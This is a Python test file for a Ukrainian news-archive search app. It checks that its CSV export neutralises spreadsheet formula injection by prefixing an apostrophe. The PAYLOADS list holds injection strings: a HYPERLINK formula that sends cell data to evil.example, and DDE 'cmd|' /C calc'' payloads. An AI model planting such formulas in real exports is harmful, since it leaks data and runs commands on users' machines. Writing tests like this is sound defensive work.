"""CSV export never hands a spreadsheet a formula: every text cell, whatever the page says."""

from __future__ import annotations

import csv
import html
import io
import json
import random
from pathlib import Path

import pytest

from index.article import Article
from index.build import rebuild
from search.export import CSV_COLUMNS, FORMULA_STARTS, csv_rows
from web import create_app

PAYLOADS = (
    '=HYPERLINK("http://evil.example/?"&A1,"Докладніше")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


TOWNS = ("Житомир", "Чернігів", "Полтава", "Ужгород", "Луцьк", "Рівне")


def _read(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))


def _page(payload: str, number: int) -> str:
    data = {
        "@context": "https://schema.org",
        "@type": "NewsArticle",
        "headline": f"{payload} заголовок {number}",
        "datePublished": f"2024-05-{number + 1:02d}T10:00:00+03:00",
        "author": {"@type": "Person", "name": f"{payload[0]}Олена Коваль"},
        "publisher": {"@type": "Organization", "name": payload},
        "articleSection": f"{payload} розділ",  # not the site name: that is never a section
        "description": f"{payload} опис новини про ремонт доріг",
    }
    return f"""<!doctype html><html lang="uk"><head><meta charset="utf-8">
<title>{html.escape(payload)} заголовок {number}</title>
<meta name="description" content="{html.escape(payload)} опис новини про ремонт доріг">
<script type="application/ld+json">{json.dumps(data, ensure_ascii=False)}</script></head>
<body><article><h1>{html.escape(payload)} заголовок {number}</h1>
<p>Міська рада ухвалила рішення про ремонт доріг, шкіл і лікарень у {number + 3} районах міста.</p>
<p>{TOWNS[number]} отримає на ремонт {number + 1} мільйонів гривень з обласного бюджету.</p>
<p>Депутати наголосили, що роботи почнуться навесні та триватимуть до кінця року.</p>
</article></body></html>"""


@pytest.fixture(scope="module")
def exported(tmp_path_factory: pytest.TempPathFactory) -> list[dict[str, str]]:
    folder = tmp_path_factory.mktemp("csv-injection")
    archive = folder / "archive"
    archive.mkdir()
    for number, payload in enumerate(PAYLOADS):
        (archive / f"page-{number}.html").write_text(_page(payload, number), encoding="utf-8")
    rebuild(archive, folder / "index", stream=io.StringIO(), interactive=False)
    app = create_app({"TESTING": True, "INDEX_DIR": str(folder / "index")})
    response = app.test_client().get("/search.csv?q=ремонт")
    assert response.status_code == 200
    return _read(response.get_data(as_text=True))


def test_every_payload_page_is_exported(exported) -> None:
    assert len(exported) == len(PAYLOADS)


# extraction itself trims a byline's leading dash and refuses one with an @ (an address)
@pytest.mark.parametrize(
    ("column", "reaching"),
    [("title", 3), ("authors", 2), ("source", 3), ("rubric", 3), ("lead", 3)],
)
def test_no_text_cell_starts_a_formula(exported, column: str, reaching: int) -> None:
    cells = [row[column] for row in exported]
    carried = [cell for cell in cells if cell.startswith("'")]
    assert len(carried) >= reaching, f"the payloads did not reach {column}: {cells}"
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]


def test_the_text_is_kept_behind_the_apostrophe(exported) -> None:
    titles = {row["title"] for row in exported}
    assert f"'{PAYLOADS[0]} заголовок 0" in titles


def test_speakers_and_every_other_text_column_too() -> None:
    rng = random.Random(5)
    article = Article(
        id="x",
        url="=cmd|evil",
        path="-x.html",
        title="@title",
        source="+source",
        authors=["=author", "плюс"],
        speakers=["-speaker", "Іван Петренко"],
        lead="\t=lead",
        captures=3,
    )
    texts = ["".join(rng.choice("=+-@\t\r aб1") for _ in range(6)) for _ in range(200)]
    rows = [article] + [
        Article(id=str(i), title=t, lead=t, rubrics=[t]) for i, t in enumerate(texts)
    ]
    read = _read("".join(csv_rows(rows)))
    for row in read:
        for column in CSV_COLUMNS:
            assert not row[column].startswith(FORMULA_STARTS), (column, row[column])
    assert read[0]["speakers"] == "'-speaker; Іван Петренко"
    assert read[0]["url"] == "'=cmd|evil"


def test_numbers_stay_numbers() -> None:
    read = _read("".join(csv_rows([Article(id="n", title="Т", captures=-2)])))
    assert read[0]["captures"] == "-2"


def test_json_keeps_the_raw_text(tmp_path: Path) -> None:
    archive = tmp_path / "archive"
    archive.mkdir()
    (archive / "page.html").write_text(_page(PAYLOADS[0], 0), encoding="utf-8")
    rebuild(archive, tmp_path / "index", stream=io.StringIO(), interactive=False)
    app = create_app({"TESTING": True, "INDEX_DIR": str(tmp_path / "index")})
    results = app.test_client().get("/search.json?q=ремонт").get_json()["hits"]
    assert results[0]["title"].startswith(PAYLOADS[0])
